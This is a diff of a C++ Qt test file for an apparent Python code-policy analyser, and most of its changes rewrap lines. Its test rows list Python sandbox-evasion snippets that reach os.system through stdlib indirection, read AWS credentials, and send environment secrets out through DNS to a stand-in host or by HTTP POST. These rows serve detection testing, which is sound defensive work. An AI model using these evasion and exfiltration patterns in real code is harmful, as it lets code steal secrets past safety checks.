@@ -43,24 +43,31 @@ void TestEvasion::fires_data()
     QTest::addColumn<QString>("rule");
     QTest::addColumn<QString>("severity");
     auto row = [](const char* name, const char* code, const char* rule, const char* severity = "block") {
-        QTest::newRow(name) << QString::fromUtf8(code) << QString::fromUtf8(rule) << QString::fromUtf8(severity);
+        QTest::newRow(name) << QString::fromUtf8(code) << QString::fromUtf8(rule)
+                            << QString::fromUtf8(severity);
     };
     // name-resolution: literal names are followed, computed ones blocked
     row("pydoc-locate", "import pydoc\npydoc.locate('os.system')('id')", "name-resolution");
-    row("pkgutil-colon", "import pkgutil\nf = pkgutil.resolve_name('subprocess:getoutput')\nf('id')", "process-exec");
+    row("pkgutil-colon", "import pkgutil\nf = pkgutil.resolve_name('subprocess:getoutput')\nf('id')",
+        "process-exec");
     row("pkgutil-computed", "import pkgutil\npkgutil.resolve_name(input())()", "name-resolution");
     row("dictconfig-factory",
-        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system'}}})",
+        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
+        "'os.system'}}})",
         "name-resolution");
-    row("attrgetter-call", "import operator, os\noperator.attrgetter('path.os.system')(os)('id')", "process-exec");
+    row("attrgetter-call", "import operator, os\noperator.attrgetter('path.os.system')(os)('id')",
+        "process-exec");
     // dynamic-code through stdlib sinks: literal strings analysed, computed ones blocked
     row("timeit-literal", "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)",
         "process-exec");
     row("timeit-computed", "import timeit, sys\ntimeit.timeit(sys.argv[1])", "dynamic-code");
-    row("cprofile-method", "import cProfile\ncProfile.Profile().run(\"import os; os.system('id')\")", "process-exec");
-    row("annotation", "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)",
+    row("cprofile-method", "import cProfile\ncProfile.Profile().run(\"import os; os.system('id')\")",
         "process-exec");
-    row("doctest", "import doctest\n'''\n>>> __import__('os').system('id')\n'''\ndoctest.testmod()", "process-exec");
+    row("annotation",
+        "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)",
+        "process-exec");
+    row("doctest", "import doctest\n'''\n>>> __import__('os').system('id')\n'''\ndoctest.testmod()",
+        "process-exec");
     row("fileconfig", "import logging.config\nlogging.config.fileConfig('x.ini')", "dynamic-code");
     // import-path
     row("sys-path-insert", "import sys\nsys.path.insert(0, '/tmp/x')", "import-path");
@@ -83,11 +90,13 @@ void TestEvasion::fires_data()
     row("tar-fully-trusted", "import tarfile\ntarfile.open('a.tar').extractall(filter='fully_trusted')",
         "system-path-write");
     // secret-access (warn)
-    row("aws", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", "secret-access", "warn");
+    row("aws", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
+        "secret-access", "warn");
     row("walk-root", "import os\nfor r, d, f in os.walk('/'):\n    pass", "secret-access", "warn");
     row("rglob-home", "from pathlib import Path\nlist(Path.home().rglob('*.pem'))", "secret-access", "warn");
     // exfiltration
-    row("dns-built", "import socket, os\nsocket.gethostbyname(os.environ['K'] + '.x.example')", "exfiltration");
+    row("dns-built", "import socket, os\nsocket.gethostbyname(os.environ['K'] + '.x.example')",
+        "exfiltration");
     row("post-env", "import requests, os\nrequests.post('http://x', json=dict(os.environ))", "exfiltration");
     // source-hiding
     row("coding-utf7", "# coding: utf-7\nprint(1)\n", "source-hiding");
@@ -108,8 +117,8 @@ void TestEvasion::fires_data()
     row("for-literal", "import os\nfor m in [os]:\n    m.system('id')", "process-exec");
     row("match-capture", "import os\nmatch os:\n    case m:\n        m.system('id')", "process-exec");
     row("match-keyword", "import os\nmatch os:\n    case object(system=s):\n        s('id')", "process-exec");
-    row("with-nullcontext", "import os, contextlib\nwith contextlib.nullcontext(os) as m:\n    m.system('id')",
-        "process-exec");
+    row("with-nullcontext",
+        "import os, contextlib\nwith contextlib.nullcontext(os) as m:\n    m.system('id')", "process-exec");
 }
 
 void TestEvasion::fires()
@@ -151,8 +160,12 @@ void TestEvasion::nearMisses_data()
     row("mnt-data", "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv('/mnt/data/out.csv')\n"
                     "open('/mnt/data/r.txt', 'w').write('x')");
     row("etc-read", "print(open('/etc/hostname').read())");
-    row("tar-data-filter", "import tarfile\nwith tarfile.open('d.tar') as t:\n    t.extractall('d', filter='data')");
+    row("tar-data-filter",
+        "import tarfile\nwith tarfile.open('d.tar') as t:\n    t.extractall('d', filter='data')");
     row("torch-save-pth", "import torch\ntorch.save({}, 'model.pth')\ntorch.load('model.pth')");
+    row("home-cache",
+        "from pathlib import Path\nd = Path.home() / '.cache' / 'app'\nd.mkdir(parents=True, exist_ok=True)\n"
+        "(d / 'state.json').write_text('{}')");
     row("home-config", "from pathlib import Path\nprint((Path.home() / '.myapp.json').exists())");
     row("walk-cwd", "import os\nfor r, d, f in os.walk('.'):\n    print(r)");
     row("dns-literal", "import socket\nprint(socket.gethostbyname('localhost'))");
@@ -160,10 +173,12 @@ void TestEvasion::nearMisses_data()
                       "headers={'Authorization': f\"Bearer {os.environ['TOKEN']}\"}, json={'q': 1})");
     row("coding-utf8", "# -*- coding: utf-8 -*-\nprint('é')\n");
     row("crlf", "x = 1\r\ny = 2\r\n");
-    row("ioctl-winsize", "import fcntl, termios, struct\nfcntl.ioctl(1, termios.TIOCGWINSZ, struct.pack('HHHH', 0, 0, 0, 0))");
+    row("ioctl-winsize",
+        "import fcntl, termios, struct\nfcntl.ioctl(1, termios.TIOCGWINSZ, struct.pack('HHHH', 0, 0, 0, 0))");
     row("ansi-colour", "print('\\x1b[31mred\\x1b[0m')");
     row("iife-data", "print((lambda x, y: x * y)(3, 4))");
-    row("match-data", "match {'a': 1}:\n    case {'a': v}:\n        print(v)\n    case other:\n        print(other)");
+    row("match-data",
+        "match {'a': 1}:\n    case {'a': v}:\n        print(v)\n    case other:\n        print(other)");
     row("getattr-append", "xs = []\ngetattr(xs, 'append')(1)\ngetattr(xs, 'insert')(0, 2)");
 }
 
@@ -179,7 +194,8 @@ void TestEvasion::nearMisses()
 void TestEvasion::loneCarriageReturnIsALineBreak()
 {
     // Python ends the comment at the lone CR: the call after it runs, so the check must see it.
-    const Report report = analyze("x = 1  # harmless\rimport os; os.system('id')\n", *Policy::preset("standard"));
+    const Report report =
+        analyze("x = 1  # harmless\rimport os; os.system('id')\n", *Policy::preset("standard"));
     bool exec = false;
     for (const auto& f : report.findings)
         exec = exec || f.rule == "process-exec";
@@ -189,13 +205,15 @@ void TestEvasion::loneCarriageReturnIsALineBreak()
 void TestEvasion::literalCodeStringsAreAnalysed()
 {
     // The finding inside the string names the sink and the inner line.
-    const Report report =
-        analyze("import timeit\ntimeit.timeit('x = 1\\n__import__(\"os\").system(\"id\")')", *Policy::preset("standard"));
+    const Report report = analyze("import timeit\ntimeit.timeit('x = 1\\n__import__(\"os\").system(\"id\")')",
+                                  *Policy::preset("standard"));
     QVERIFY(!report.allowed);
     QCOMPARE(report.findings.size(), std::size_t(1));
     QCOMPARE(report.findings[0].line, 2);
-    QVERIFY2(report.findings[0].message.find("`timeit.timeit`") != std::string::npos, report.findings[0].message.c_str());
-    QVERIFY2(report.findings[0].message.find("line 2") != std::string::npos, report.findings[0].message.c_str());
+    QVERIFY2(report.findings[0].message.find("`timeit.timeit`") != std::string::npos,
+             report.findings[0].message.c_str());
+    QVERIFY2(report.findings[0].message.find("line 2") != std::string::npos,
+             report.findings[0].message.c_str());
 }
 
 QTEST_APPLESS_MAIN(TestEvasion)
